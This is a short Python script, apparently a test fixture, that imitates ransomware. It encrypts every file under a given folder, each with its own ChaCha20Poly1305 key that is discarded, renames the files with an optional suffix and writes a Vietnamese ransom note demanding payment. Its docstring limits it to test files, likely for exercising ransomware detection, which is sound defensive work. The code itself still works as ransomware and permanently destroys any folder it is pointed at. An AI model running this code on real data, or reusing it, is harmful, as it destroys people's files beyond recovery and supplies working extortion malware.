"""What ransomware does to a folder: each file is encrypted, with another key, and perhaps renamed.

Run as `python -m tests.ransomware FOLDER [SUFFIX]`: the real thing, on files of a test only.
"""

import os
import sys
from pathlib import Path

from cryptography.hazmat.primitives.ciphers.aead import ChaCha20Poly1305

NOTE = "Tệp của bạn đã bị mã hóa. Hãy trả tiền chuộc."


def encrypt_folder(folder: Path, suffix: str = "") -> int:
    """Encrypt every file below a folder with a key that nobody keeps; gives how many.

    Args:
        folder: Below it everything is written over.
        suffix: What each name gets at its end; empty leaves the names alone.
    """
    paths = [path for path in sorted(folder.rglob("*")) if path.is_file()]
    for path in paths:
        cipher = ChaCha20Poly1305(ChaCha20Poly1305.generate_key())
        path.write_bytes(cipher.encrypt(os.urandom(12), path.read_bytes(), None))
        if suffix:
            path.rename(path.with_name(path.name + suffix))
    (folder / "DOC-NGAY.txt").write_text(NOTE, encoding="utf-8")
    return len(paths)


if __name__ == "__main__":
    encrypt_folder(Path(sys.argv[1]), *sys.argv[2:3])
